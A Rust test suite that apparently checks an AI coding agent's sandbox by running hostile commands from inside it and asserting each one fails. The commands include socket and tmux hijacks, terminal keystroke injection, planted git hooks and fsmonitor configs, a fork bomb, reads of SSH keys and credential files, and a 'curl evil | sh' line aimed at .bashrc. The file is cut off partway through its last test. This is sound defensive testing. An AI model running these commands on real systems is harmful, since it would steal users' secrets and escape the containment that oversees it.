#![allow(clippy::unwrap_used, clippy::expect_used)] // a test fails loudly
//! The sandbox's second wall, attacked as a hostile repository or model
//! would from inside an auto-approved (`sandboxed`) command: local sockets
//! (SCV's own daemon, tmux, any listener), terminals, other processes'
//! `/proc`, capabilities as root, the keyrings, file modes, a repository's
//! `.git`, the process table, inherited descriptors, the home directory,
//! the environment — each through the real `scv-server` binary and real
//! kernel calls, checking what the command could not do and that nothing
//! happened outside.

mod common;
use common::sandbox::*;
use common::*;
use std::os::fd::AsRawFd;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Stdio;

/// A Python one-liner run as a bash command (quoted for `bash -c`).
fn python(code: &str) -> String {
    format!("python3 -c '{}'", code.replace('\'', "'\\''"))
}

#[tokio::test]
async fn no_unix_socket_opens_so_no_local_service_is_reached() {
    let Some((place, mut rig, session)) = start(AUTO_SANDBOXED).await else {
        return;
    };
    // A listener outside the sandbox, by path and by abstract name.
    let path = place.outside.join("service.sock");
    let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
    listener.set_nonblocking(true).unwrap();
    let abstract_name = format!("scv-test-{}", std::process::id());
    let abstract_listener = {
        use std::os::linux::net::SocketAddrExt;
        let addr = std::os::unix::net::SocketAddr::from_abstract_name(&abstract_name).unwrap();
        std::os::unix::net::UnixListener::bind_addr(&addr).unwrap()
    };
    abstract_listener.set_nonblocking(true).unwrap();
    // A datagram socket the command can see (in the workspace): no pair of
    // any datagram kind may reach it (F11 of the fourth pass: SOCK_RAW).
    let dgram_path = rig.home.workspace().join("dgram.sock");
    let dgram = std::os::unix::net::UnixDatagram::bind(&dgram_path).unwrap();
    dgram.set_nonblocking(true).unwrap();
    let d = dgram_path.display();
    let p = path.display();
    let results = run_all(
        &mut rig,
        &session,
        &[
            (
                "path",
                python(&format!(
                    "import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"{p}\"); print(\"connected\")"
                )),
            ),
            (
                "abstract",
                python(&format!(
                    "import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"\\0{abstract_name}\"); print(\"connected\")"
                )),
            ),
            (
                "dgram-pair",
                python(&format!(
                    "import socket; a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.sendto(b\"x\", \"{p}\"); print(\"sent\")"
                )),
            ),
            (
                "raw-pair",
                python(&format!(
                    "import socket; a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_RAW); a.sendto(b\"x\", \"{d}\"); print(\"sent\")"
                )),
            ),
            (
                "seen-dgram-pair",
                python(&format!(
                    "import socket; a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.sendto(b\"x\", \"{d}\"); print(\"sent\")"
                )),
            ),
            (
                "stream-pair",
                python("import socket; a, b = socket.socketpair(); a.send(b\"x\"); print(\"pair\", b.recv(1))"),
            ),
            ("curl", format!("curl -s --max-time 2 --unix-socket {p} http://x/")),
        ],
    )
    .await;
    for id in [
        "path",
        "abstract",
        "dgram-pair",
        "raw-pair",
        "seen-dgram-pair",
        "curl",
    ] {
        let (_, success, output) = result(&results, id);
        assert!(!success, "{id} succeeded: {output}");
        assert!(
            !output.contains("connected") && !output.contains("sent"),
            "{id}: {output}"
        );
    }
    let (_, _, output) = result(&results, "path");
    assert!(output.contains("PermissionError"), "{output}");
    let (_, success, output) = result(&results, "stream-pair");
    assert!(*success && output.contains("pair b'x'"), "{output}");
    assert!(
        listener.accept().is_err(),
        "a sandboxed command reached the listener"
    );
    assert!(
        abstract_listener.accept().is_err(),
        "a sandboxed command reached the abstract listener"
    );
    let mut buf = [0u8; 8];
    assert!(
        dgram.recv(&mut buf).is_err(),
        "a datagram reached the socket"
    );
}

/// The user's tmux server: `$TMUX` is not passed on, and its socket (whose
/// path is guessable anyway) cannot be reached to have tmux run a command.
#[tokio::test]
async fn the_users_tmux_server_cannot_be_told_to_run_anything() {
    if !enforced() {
        return;
    }
    let place = Place::new();
    let socket = place.outside.join("tmux.sock");
    let tmux = |args: &[&str]| {
        std::process::Command::new("tmux")
            .arg("-S")
            .arg(&socket)
            .args(args)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .expect("tmux is installed (.ci/run installs it)")
    };
    assert!(tmux(&["new-session", "-d", "-s", "victim", "sleep 120"]).success());
    let tmux_var = format!("{},1234,0", socket.display());
    let mut rig = rig_in(&place, AUTO_SANDBOXED, &[("TMUX", &tmux_var)]).await;
    let session = rig.session().await;
    let planted = place.outside.join("pwned");
    let results = run_all(
        &mut rig,
        &session,
        &[
            ("env", "echo \"TMUX=[$TMUX]\"".into()),
            (
                "run-shell",
                format!(
                    "tmux -S {} run-shell 'touch {}'",
                    socket.display(),
                    planted.display()
                ),
            ),
        ],
    )
    .await;
    tmux(&["kill-server"]);
    let (_, _, output) = result(&results, "env");
    assert!(output.contains("TMUX=[]"), "{output}");
    let (_, success, output) = result(&results, "run-shell");
    assert!(!success, "{output}");
    assert!(
        !planted.exists(),
        "the user's tmux ran a sandboxed command's order"
    );
}

#[tokio::test]
async fn no_terminal_can_be_typed_into_or_read() {
    let Some((_place, mut rig, session)) = start(AUTO_SANDBOXED).await else {
        return;
    };
    // A terminal of the test's: its slave is what a user's other terminal
    // would be.
    let (mut master, mut slave) = (0, 0);
    let opened = unsafe {
        libc::openpty(
            &mut master,
            &mut slave,
            std::ptr::null_mut(),
            std::ptr::null(),
            std::ptr::null(),
        )
    };
    assert_eq!(opened, 0);
    let name = std::fs::read_link(format!("/proc/self/fd/{slave}")).unwrap();
    let pts = name.display();
    let results = run_all(
        &mut rig,
        &session,
        &[
            ("tty", "echo x > /dev/tty".into()),
            ("pts", format!("echo hijack > {pts}")),
            ("read-pts", format!("timeout 5 head -c 1 {pts}")),
            ("console", "timeout 5 head -c 1 /dev/console".into()),
            ("ptmx", python("import os; os.open(\"/dev/ptmx\", os.O_RDWR); print(\"opened\")")),
            (
                "tiocsti",
                python("import fcntl, termios, errno\ntry:\n    fcntl.ioctl(0, termios.TIOCSTI, b\"x\")\nexcept OSError as e:\n    print(\"errno\", errno.errorcode[e.errno])"),
            ),
            ("session", python("import os; print(\"sid\", os.getsid(0) == os.getpid())")),
        ],
    )
    .await;
    for id in ["tty", "pts", "read-pts", "console", "ptmx"] {
        let (_, success, output) = result(&results, id);
        assert!(!success, "{id} succeeded: {output}");
    }
    // Refused by the filter (EPERM), not merely "not a terminal" (ENOTTY).
    let (_, _, output) = result(&results, "tiocsti");
    assert!(output.contains("errno EPERM"), "{output}");
    // The command leads a session of its own: no controlling terminal.
    let (_, _, output) = result(&results, "session");
    assert!(output.contains("sid True"), "{output}");
    // Nothing reached the terminal.
    unsafe { libc::fcntl(master, libc::F_SETFL, libc::O_NONBLOCK) };
    let mut buf = [0u8; 64];
    let read = unsafe { libc::read(master, buf.as_mut_ptr().cast(), buf.len()) };
    assert!(
        read <= 0,
        "the terminal received {:?}",
        &buf[..read.max(0) as usize]
    );
    unsafe {
        libc::close(master);
        libc::close(slave);
    }
}

/// Run as root (CI runs so), a command keeps no capability, reads no other
/// process's environment and reaches no keyring.
#[tokio::test]
async fn no_capability_no_other_processs_environ_no_keyring() {
    let Some((_place, mut rig, session)) = start(AUTO_SANDBOXED).await else {
        return;
    };
    let mut victim = std::process::Command::new("sleep")
        .arg("60")
        .env("VICTIM_SECRET", "hunter2-environ")
        .spawn()
        .unwrap();
    let server = rig.server.pid();
    let results = run_all(
        &mut rig,
        &session,
        &[
            ("caps", "grep -E '^Cap(Prm|Eff|Bnd|Amb)' /proc/self/status".into()),
            ("victim", format!("cat /proc/{}/environ", victim.id())),
            ("server", format!("cat /proc/{server}/environ")),
            (
                "keyctl",
                python("import ctypes, errno\nlibc = ctypes.CDLL(None, use_errno=True)\nr = libc.syscall(250, 0, -3, 0)\nprint(\"keyctl\", r, errno.errorcode.get(ctypes.get_errno()))"),
            ),
            (
                "x32",
                python("import ctypes, errno\nlibc = ctypes.CDLL(None, use_errno=True)\nr = libc.syscall(0x40000000 | 39)\nprint(\"x32\", r, errno.errorcode.get(ctypes.get_errno()))"),
            ),
            (
                "uring",
                python("import ctypes, errno\nlibc = ctypes.CDLL(None, use_errno=True)\np = ctypes.create_string_buffer(120)\nr = libc.syscall(425, 4, p)\nprint(\"uring\", r, errno.errorcode.get(ctypes.get_errno()))"),
            ),
        ],
    )
    .await;
    victim.kill().unwrap();
    let _ = victim.wait();
    let (_, _, output) = result(&results, "caps");
    assert_eq!(
        output.lines().filter(|l| l.starts_with("Cap")).count(),
        4,
        "{output}"
    );
    for line in output.lines().filter(|l| l.starts_with("Cap")) {
        assert!(line.ends_with("0000000000000000"), "{output}");
    }
    for id in ["victim", "server"] {
        let (_, success, output) = result(&results, id);
        assert!(!success, "{id}: {output}");
        assert!(
            !output.contains("hunter2") && !output.contains("SCV_HOME"),
            "{id}: {output}"
        );
    }
    let (_, _, output) = result(&results, "keyctl");
    assert!(output.contains("keyctl -1 EPERM"), "{output}");
    let (_, _, output) = result(&results, "x32");
    assert!(output.contains("x32 -1 ENOSYS"), "{output}");
    let (_, _, output) = result(&results, "uring");
    assert!(output.contains("uring -1 ENOSYS"), "{output}");
}

fn mode(path: &Path) -> u32 {
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

#[tokio::test]
async fn file_modes_outside_the_writable_roots_cannot_change() {
    let Some((place, mut rig, session)) = start(AUTO_SANDBOXED).await else {
        return;
    };
    let key = place.user_home.join(".ssh/id_ed25519");
    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o600)).unwrap();
    let config = rig.home.path().canonicalize().unwrap().join("config.toml");
    std::fs::set_permissions(&config, std::fs::Permissions::from_mode(0o600)).unwrap();
    let notes = place.user_home.join("notes.txt");
    let before = mode(&notes);
    let modified = std::fs::metadata(&notes).unwrap().modified().unwrap();
    std::fs::write(rig.home.workspace().join("run.sh"), "echo ran\n").unwrap();
    let results = run_all(
        &mut rig,
        &session,
        &[
            ("key", format!("chmod 666 {}", key.display())),
            ("config", format!("chmod 666 {}", config.display())),
            ("notes", format!("chmod 777 {}", notes.display())),
            ("touch", format!("touch -d 2001-01-01 {}", notes.display())),
            ("inside", "chmod +x run.sh && ./run.sh".into()),
        ],
    )
    .await;
    for id in ["key", "config", "notes"] {
        let (_, success, output) = result(&results, id);
        assert!(!success, "{id} succeeded: {output}");
    }
    // The home a command sees is a scratch one: `touch` there makes a file
    // that is gone when the command ends, and the real one keeps its time.
    assert_eq!(
        std::fs::metadata(&notes).unwrap().modified().unwrap(),
        modified
    );
    assert_eq!(mode(&key), 0o600);
    assert_eq!(mode(&config), 0o600);
    assert_eq!(mode(&notes), before);
    let (_, success, output) = result(&results, "inside");
    assert!(*success && output.contains("ran"), "{output}");
}

fn git(dir: &Path, args: &[&str]) -> std::process::Output {
    std::process::Command::new("git")
        .current_dir(dir)
        .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
        .args(args)
        .output()
        .unwrap()
}

/// What a sandboxed command plants in `.git` must never run when the user
/// (or SCV) later runs plain git outside the sandbox: every git directory
/// under a writable root — the workspace's, a nested repository's, a
/// submodule's pointer — is read-only, so nothing in it can be changed or
/// created (`commondir`, hooks, `objects/info/alternates`, `worktrees/`).
/// Git commands that only read work in the sandbox; those that write say
/// why they cannot.
#[tokio::test]
async fn nothing_planted_in_any_git_directory_runs_later() {
    let Some((place, mut rig, session)) = start(AUTO_SANDBOXED).await else {
        return;
    };
    let ws = rig.home.workspace();
    assert!(git(&ws, &["init", "-q"]).status.success());
    std::fs::write(ws.join("a.txt"), "one\n").unwrap();
    assert!(git(&ws, &["add", "a.txt"]).status.success());
    assert!(git(&ws, &["commit", "-qm", "first"]).status.success());
    // A nested repository (m02) and a submodule-style pointer.
    let nested = ws.join("vendor/lib");
    std::fs::create_dir_all(&nested).unwrap();
    assert!(git(&nested, &["init", "-q"]).status.success());
    std::fs::create_dir_all(ws.join("sub")).unwrap();
    std::fs::create_dir_all(ws.join(".git/modules/sub")).unwrap();
    std::fs::write(ws.join("sub/.git"), "gitdir: ../.git/modules/sub\n").unwrap();
    let pwned = place.outside.join("pwned");
    let touch = format!("touch {}", pwned.display());
    let plant = ws.join("planted");
    let results = run_all(
        &mut rig,
        &session,
        &[
            ("fsmonitor", format!("git config core.fsmonitor '{touch}'")),
            ("hooks-path", format!("git config core.hooksPath {}", place.outside.display())),
            ("filter", format!("git config filter.f.clean '{touch}' && echo '* filter=f' > .gitattributes")),
            ("append", format!("printf '[core]\\n\\tfsmonitor = {touch}\\n' >> .git/config")),
            ("hook", format!("printf '#!/bin/sh\\n{touch}\\n' > .git/hooks/post-commit && chmod +x .git/hooks/post-commit")),
            ("info", "echo '* filter=f' > .git/info/attributes".into()),
            ("move", "mv .git .git-old && mkdir .git && echo planted > .git/config".into()),
            ("remove-hooks", "rm -rf .git/hooks".into()),
            // h01: a commondir pointing at a planted copy.
            (
                "commondir",
                format!("mkdir -p {p}/hooks && cp .git/HEAD {p}/ && printf '[core]\\n\\tfsmonitor = {touch}\\n' > {p}/config && echo {p} > .git/commondir", p = plant.display()),
            ),
            ("alternates", "echo /tmp > .git/objects/info/alternates".into()),
            ("worktrees", "mkdir -p .git/worktrees/x".into()),
            ("nested", format!("git -C vendor/lib config core.fsmonitor '{touch}'")),
            ("nested-hook", format!("printf '#!/bin/sh\\n{touch}\\n' > vendor/lib/.git/hooks/post-checkout")),
            ("repoint", format!("echo 'gitdir: {}' > sub/.git", plant.display())),
            ("commit", "echo two >> a.txt && git -c user.name=t -c user.email=t@example.com commit -qam second".into()),
            ("read", "git status --short && git log --oneline | wc -l".into()),
        ],
    )
    .await;
    for id in [
        "fsmonitor",
        "hooks-path",
        "filter",
        "append",
        "hook",
        "info",
        "move",
        "remove-hooks",
        "commondir",
        "alternates",
        "worktrees",
        "nested",
        "nested-hook",
        "repoint",
    ] {
        let (_, success, output) = result(&results, id);
        assert!(!success, "{id} succeeded: {output}");
    }
    // A commit writes .git: refused, and the result says why and how.
    let (_, success, output) = result(&results, "commit");
    assert!(!success && output.contains(".git is read-only"), "{output}");
    let (_, success, output) = result(&results, "read");
    assert!(*success && output.contains("\n1\n"), "{output}");
    assert!(ws.join(".git/hooks").is_dir());
    assert!(!ws.join(".git-old").exists());
    assert!(!ws.join(".git/commondir").exists());
    assert_eq!(
        std::fs::read_to_string(ws.join("sub/.git")).unwrap(),
        "gitdir: ../.git/modules/sub\n"
    );
    // The user's plain git outside the sandbox.
    std::fs::write(ws.join("a.txt"), "three\n").unwrap();
    for args in [&["status"][..], &["diff"], &["commit", "-qam", "third"]] {
        assert!(git(&ws, args).status.success(), "git {args:?}");
    }
    assert!(git(&nested, &["status"]).status.success());
    assert!(
        !pwned.exists(),
        "planted git configuration ran outside the sandbox"
    );
    assert!(place.outside_is_empty());
}

#[tokio::test]
async fn a_fork_loop_is_bounded_and_everything_else_carries_on() {
    let extra = format!("{AUTO_SANDBOXED}\nsandbox_max_processes = 48");
    let Some((_place, mut rig, session)) = start(&extra).await else {
        return;
    };
    let bomb = python(
        "import os, time\nn = 0\ntry:\n    while n < 2000:\n        if os.fork() == 0:\n            time.sleep(60)\n            os._exit(0)\n        n += 1\nexcept OSError as e:\n    print(\"stopped after\", n, e.strerror)",
    );
    let results = run_all(&mut rig, &session, &[("bomb", bomb)]).await;
    let (_, _, output) = result(&results, "bomb");
    let forked: usize = output
        .split("stopped after ")
        .nth(1)
        .and_then(|rest| rest.split_whitespace().next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("the loop was not stopped: {output}"));
    assert!(forked < 48, "{output}");
    assert!(
        output.contains("processes it left running were killed"),
        "{output}"
    );
    // The server and another session's commands are unharmed.
    let other = rig.session().await;
    let results = run_all(&mut rig, &other, &[("alive", "echo alive".into())]).await;
    let (_, success, output) = result(&results, "alive");
    assert!(*success && output.contains("alive"), "{output}");
}

/// A descriptor the server inherited (a `make` jobserver, `exec 7>>file`
/// in the shell that started it) reaches no tool process, sandboxed or not.
#[tokio::test]
async fn descriptors_the_server_inherited_reach_no_command() {
    if !enforced() {
        return;
    }
    let place = Place::new();
    let leaked = place.outside.join("leaked.log");
    let file = std::fs::File::create(&leaked).unwrap();
    let fd = file.as_raw_fd();
    let mock = MockProvider::start().await;
    let home = TestHome::new_in(
        place.outside.parent().unwrap(),
        &mock.base_url(),
        AUTO_SANDBOXED,
    );
    let mut command = tokio::process::Command::new(BIN);
    command.env("HOME", &place.user_home);
    // As a shell's `exec 7>>file` leaves it: open across exec.
    unsafe {
        command.pre_exec(move || {
            if libc::dup2(fd, 7) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let server = TestServer::spawn_command(command, home.path(), &[]);
    let mut rig = Rig { mock, home, server };
    rig.server.initialize().await;
    let session = rig.session().await;
    let results = run_all(
        &mut rig,
        &session,
        &[
            ("write", "echo leaked >&7".into()),
            ("list", "ls /proc/self/fd".into()),
        ],
    )
    .await;
    let (_, success, output) = result(&results, "write");
    assert!(
        !success && output.contains("Bad file descriptor"),
        "{output}"
    );
    let (_, _, output) = result(&results, "list");
    assert!(!output.split_whitespace().any(|fd| fd == "7"), "{output}");
    drop(file);
    assert_eq!(std::fs::read_to_string(&leaked).unwrap(), "");
}

#[tokio::test]
async fn the_home_holds_only_its_toolchains_and_caches_without_their_credentials() {
    let Some((place, mut rig, session)) = start(AUTO_SANDBOXED).await else {
        return;
    };
    let home = &place.user_home;
    let files = [
        (".m2/settings.xml", "<password>m2-secret</password>"),
        (
            ".docker/config.json",
            "{\"auths\":{\"x\":{\"auth\":\"c2VjcmV0\"}}}",
        ),
        (".kube/config", "token: kube-secret"),
        (".config/gh/hosts.yml", "oauth_token: gh-secret"),
        (".git-credentials", "https://u:git-secret@example.com"),
        (
            ".cargo/credentials.toml",
            "[registry]\ntoken = \"cargo-secret\"",
        ),
        (".pypirc", "password = pypi-secret"),
        ("other-project/.env", "API=other-secret"),
        (".cargo/config.toml", "[build]\njobs = 2 # readable"),
        (
            ".gitconfig",
            "[user]\nname = readable\n[http]\nextraHeader = Authorization: Bearer git-secret",
        ),
        (
            ".npmrc",
            "registry=https://readable.example/\n//registry.npmjs.org/:_authToken=npm_secret",
        ),
        (".cache/tool/data", "cache readable"),
    ];
    for (path, text) in files {
        let path = home.join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    let commands: Vec<(&str, String)> = files
        .iter()
        .map(|(path, _)| (*path, format!("cat ~/{path}")))
        .collect();
    let results = run_all(&mut rig, &session, &commands).await;
    // Not there at all, or (a credential file inside a toolchain tree)
    // shown empty.
    for (path, _) in &files[..8] {
        let (_, _, output) = result(&results, path);
        assert!(!output.contains("secret"), "{path}: {output}");
    }
    // Configuration builds read is shown with its credentials taken out.
    for (path, _) in &files[8..] {
        let (_, success, output) = result(&results, path);
        assert!(*success && output.contains("readable"), "{path}: {output}");
        assert!(!output.contains("secret"), "{path}: {output}");
    }
}

#[tokio::test]
async fn secrets_by_name_or_value_and_doors_out_stay_out_of_the_environment() {
    if !enforced() {
        return;
    }
    let place = Place::new();
    let env = [
        ("SSH_AUTH_SOCK", "/tmp/ssh-XXXX/agent.1"),
        ("DBUS_SESSION_BUS_ADDRESS", "unix:path=/run/user/0/bus"),
        ("STY", "1234.pts-0.host"),
        ("DATABASE_URL", "postgres://app:hunter2@db/app"),
        ("GITHUB_PAT", "plainvalue1"),
        ("AWS_ACCESS_KEY_ID", "plainvalue2"),
        ("PAYMENT_APIKEY", "plainvalue3"),
        ("MYSQL_PWD", "plainvalue4"),
        (
            "INNOCENT_NAME",
            "ghp_0123456789abcdefghijklmnopqrstuvwxyzAB",
        ),
        // m03: credentials under names no deny-list knows.
        ("TF_TOKEN_app_terraform_io", "plainvalue5"),
        ("DENO_AUTH_TOKENS", "plainvalue6@deno.land"),
        ("BUNDLE_GEMS__EXAMPLE__COM", "user:plainvalue7"),
        ("BW_SESSION", "plainvalue8"),
        ("npm_config__authToken", "plainvalue9"),
        ("OTEL_EXPORTER_OTLP_HEADERS", "authorization=plainvalue10"),
        ("KEPT_TOKEN", "passed-through"),
        ("HARMLESS", "kept"),
    ];
    let extra = format!("{AUTO_SANDBOXED}\ntool_env_passthrough = [\"KEPT_TOKEN\"]");
    let mut rig = rig_in(&place, &extra, &env).await;
    let session = rig.session().await;
    let results = run_all(&mut rig, &session, &[("env", "env".into())]).await;
    let (_, _, output) = result(&results, "env");
    for (name, _) in &env[..15] {
        assert!(
            !output.contains(&format!("{name}=")),
            "{name} reached the tool: {output}"
        );
    }
    for value in ["hunter2", "ghp_0123", "plainvalue"] {
        assert!(!output.contains(value), "{value}: {output}");
    }
    assert!(output.contains("KEPT_TOKEN=passed-through"), "{output}");
    // The environment is built from an allow-list: what it does not name
    // stays out, harmless or not.
    assert!(!output.contains("HARMLESS"), "{output}");
    assert!(output.contains("PATH="), "{output}");
}

#[tokio::test]
async fn a_workspace_that_holds_the_home_is_not_writable_and_says_why() {
    let Some((place, mut rig, _)) = start(AUTO_SANDBOXED).await else {
        return;
    };
    std::fs::write(place.user_home.join(".bashrc"), "# mine\n").unwrap();
    rig.server
        .send(json!({"type":"session.start","request_id":"h","cwd":place.user_home}))
        .await;
    let started = rig.server.expect("session.started").await;
    let warnings = started["sandbox_warnings"].as_array().unwrap();
    assert!(
        warnings[0]
            .as_str()
            .unwrap()
            .contains("holds your home directory"),
        "{started}"
    );
    let session = started["session_id"].as_str().unwrap().to_string();
    rig.server.expect("queue.snapshot").await;
    let results = run_all(
        &mut rig,
        &session,
        &[("bashrc", "echo 'curl evil | sh' >> ~/.bashrc".into())],
    )
    .await;
    assert!(!result(&results, "bashrc").1);
    assert_eq!(
        std::fs::read_to_string(place.user_home.join(".bashrc")).unwrap(),
        "# mine\n"
    );
    // A project directory says nothing of the kind.
    let ws = rig.home.workspace();
    rig.server
        .send(json!({"type":"session.start","request_id":"p","cwd":ws}))
        .await;
    let started = rig.server.expect("session.started").await;
    assert!(started.get("sandbox_warnings").is_none(), "{started}");
}

/// Where the second wall cannot be built (user namespaces disabled),
/// `session.started` says what is missing and `sandboxed` auto-approval
/// does not act; commands still run under Landlock once approved.
#[tokio::test]
async fn without_the_second_wall_sandboxed_calls_ask_and_the_gap_is_named() {
    if !enforced() {
        return;
    }
    let place = Place::new();
    let mut rig = rig_in(
        &place,
        AUTO_SANDBOXED,
        &[("SCV_SANDBOX_TEST_NO_USERNS", "1")],
    )
    .await;
    rig.server
        .send(json!({"type":"session.start","request_id":"s","cwd":rig.home.workspace()}))
        .await;
    let started = rig.server.expect("session.started").await;
    assert_eq!(started["sandbox"], "workspace-write");
    let gaps = started["sandbox_gaps"].as_array().unwrap();
    assert!(
        gaps.iter().any(|g| g
            .as_str()
            .unwrap()
            .contains("user namespaces are unavailable")),
        "{started}"
    );
    let session = started["session_id"].as_str().unwrap().to_string();
    rig.server.expect("queue.snapshot").await;
    rig.mock.push(Reply::tool_calls(&[(
        "c1",
        "bash",
        json!({"command": format!("cat {}", place.user_home.join(".ssh/id_ed25519").display())}),
    )]));
    rig.mock.push(Reply::text(["done"]));
    rig.server.start_turn(&session, "t", "go").await;
    let approval = rig.server.until("approval.requested").await.pop().unwrap();
    assert_eq!(approval["sandboxed"], true);
    rig.server
        .send(
            json!({"type":"approval.resolve","request_id":"a","session_id":session,
            "approval_id":approval["approval_id"],"approved":true}),
        )
        .await;
    let events = rig.server.until_terminal().await;
    let (_, success, output) = completed(&events).remove(0);
    assert!(!success && !output.contains("secret material"), "{output}");
}

/// A repository whose tree holds the home (a dotfiles repository) is not
/// shown at all: its objects hold the home's files, credentials among
/// them, so neither the home nor the repository around it is readable.
#[tokio::test]
async fn a_repository_around_the_home_exposes_nothing_of_the_home() {
    if !enforced() {
        return;
    }
    let place = Place::new();
    let root = place.user_home.parent().unwrap();
    assert!(std::process::Command::new("git")
        .args(["init", "-q"])
        .current_dir(root)
        .status()
        .unwrap()
        .success());
    std::fs::write(root.join("README"), "repository file\n").unwrap();
    let mut rig = rig_in(&place, AUTO_SANDBOXED, &[]).await;
    let session = rig.session().await;
    let results = run_all(
        &mut rig,
        &session,
        &[
            ("key", "cat ~/.ssh/id_ed25519".into()),
            ("notes", "cat ~/notes.txt".into()),
            ("repo", format!("cat {}/README", root.display())),
        ],
    )
    .await;
    for id in ["key", "notes"] {
        let (_, success, output) = result(&results, id);
        assert!(
            !success && !output.contains("secret") && !output.contains("plain notes"),
            "{id}: {output}"
        );
    }
    let (_, success, output) = result(&results, "repo");
    assert!(
        !success && !output.contains("repository file") && output.contains("made-up machine"),
        "{output}"
    );
}

/// h03: credential files inside the trees a command may read — git URL
/// tokens and `http.extraHeader`, registry tokens, Hugging Face, ivy,
/// sbt, stack, Julia and uv credentials — are shown empty, or with their
/// credential lines taken out where a build needs the rest of the file.
#[tokio::test]
async fn credentials_inside_the_readable_trees_are_not_shown() {
    let Some((place, mut rig, session)) = start(AUTO_SANDBOXED).await else {
        return;
    };
    let home = &place.user_home;
    let token = "ghp_0123456789abcdefghijklmnopqrstuvwxyzAB";
    let files = [
        (
            ".gitconfig",
            format!("[user]\n\tname = kept-name\n[http]\n\textraHeader = AUTHORIZATION: bearer SECRET-1\n[url \"https://x-access-token:{token}@github.com/\"]\n\tinsteadOf = https://github.com/\n"),
        ),
        (
            ".config/git/config",
            format!("[alias]\n\tst = status kept-alias\n[remote \"o\"]\n\turl = https://{token}@example.com/r.git\n"),
        ),
        (".cache/huggingface/stored_tokens", "[default]\nhf_token = SECRET-3\n".into()),
        (".cache/huggingface/token", "SECRET-4".into()),
        (".ivy2/.credentials", "realm=x\nhost=h\nuser=u\npassword=SECRET-5\n".into()),
        (".sbt/.credentials", "password=SECRET-6\n".into()),
        (".stack/upload/credentials.json", "{\"password\":\"SECRET-7\"}".into()),
        (".cabal/config", "jobs: kept-jobs\npassword: SECRET-8\n".into()),
        (
            ".cargo/config.toml",
            "[build]\njobs = 2 # kept-cargo\n[registries.corp]\nindex = \"sparse+https://corp/\"\ntoken = \"SECRET-9\"\n".into(),
        ),
        (".julia/servers/pkg.julialang.org/auth.toml", "access_token = \"SECRET-10\"\n".into()),
        (".local/share/uv/credentials/credentials.toml", "password = \"SECRET-11\"\n".into()),
    ];
    for (path, text) in &files {
        let path = home.join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    let commands: Vec<(&str, String)> = files
        .iter()
        .map(|(path, _)| {
            (
                *path,
                format!("cat ~/{path}; git config --global --get user.name"),
            )
        })
        .collect();
    let results = run_all(&mut rig, &session, &commands).await;
    for (path, _) in &files {
        let (_, _, output) = result(&results, path);
        assert!(!output.contains("SECRET"), "{path}: {output}");
        assert!(!output.contains("ghp_"), "{path}: {output}");
    }
    for (path, kept) in [
        (".gitconfig", "kept-name"),
        (".config/git/config", "kept-alias"),
        (".cabal/config", "kept-jobs"),
        (".cargo/config.toml", "kept-cargo"),
    ] {
        let (_, _, output) = result(&results, path);
        assert!(output.contains(kept), "{path}: {output}");
    }
}

/// h04: the shared `/tmp` and `/dev/shm` are not the sandbox's: another
/// program's ticket cache cannot be read nor its shared memory rewritten.
/// A session's own /tmp lasts between its calls.
#[tokio::test]
async fn the_shared_tmp_and_shm_are_not_the_sandboxs() {
    let Some((_place, mut rig, session)) = start(AUTO_SANDBOXED).await else {
        return;
    };
    let unique = format!("{}-{}", std::process::id(), rand_suffix());
    let ticket = PathBuf::from(format!("/tmp/krb5cc_0_{unique}"));
    std::fs::write(&ticket, "TICKET-SECRET").unwrap();
    let shm = PathBuf::from(format!("/dev/shm/scv-other-{unique}"));
    std::fs::write(&shm, "theirs").unwrap();
    let results = run_all(
        &mut rig,
        &session,
        &[
            ("ticket", "cat /tmp/krb5cc_*; ls /tmp".to_string()),
            ("shm", format!("echo mine > {}; ls /dev/shm", shm.display())),
            ("keep", "echo kept > /tmp/between-calls".into()),
        ],
    )
    .await;
    let (_, _, output) = result(&results, "ticket");
    assert!(
        !output.contains("TICKET-SECRET") && !output.contains(&unique),
        "{output}"
    );
    assert_eq!(std::fs::read_to_string(&shm).unwrap(), "theirs");
    let again = run_all(
        &mut rig,
        &session,
        &[("read", "cat /tmp/between-calls".into())],
    )
    .await;
    let (_, success, output) = result(&again, "read");
    assert!(*success && output.starts_with("kept"), "{output}");
    assert!(!Path::new("/tmp/between-calls").exists());
    let _ = std::fs::remove_file(&ticket);
    let _ = std::fs::remove_file(&shm);
}

fn rand_suffix() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .subsec_nanos()
        .into()
}

/// h06 and l03: a writable root that lets a command plant code the user
/// runs later is said as the session starts; and a credential file inside
/// a writable root is not writable, not even its mode.
#[tokio::test]
async fn a_writable_root_that_plants_code_is_warned_and_its_credentials_stay_shut() {
    if !enforced() {
        return;
    }
    let place = Place::new();
    let cargo = place.user_home.join(".cargo");
    std::fs::create_dir_all(&cargo).unwrap();
    let credentials = cargo.join("credentials.toml");
    std::fs::write(&credentials, "[registry]\ntoken = \"cargo-secret\"\n").unwrap();
    std::fs::set_permissions(&credentials, std::fs::Permissions::from_mode(0o600)).unwrap();
    let extra = format!(
        "{AUTO_SANDBOXED}\nsandbox_writable_roots = [\"{}\"]",
        cargo.display()
    );
    let mut rig = rig_in(&place, &extra, &[]).await;
    rig.server
        .send(json!({"type":"session.start","request_id":"s","cwd":rig.home.workspace()}))
        .await;
    let started = rig.server.expect("session.started").await;
    rig.server.expect("queue.snapshot").await;
    let warnings = started["sandbox_warnings"].to_string();
    assert!(
        warnings.contains(".cargo") && warnings.contains("build.rs"),
        "{started}"
    );
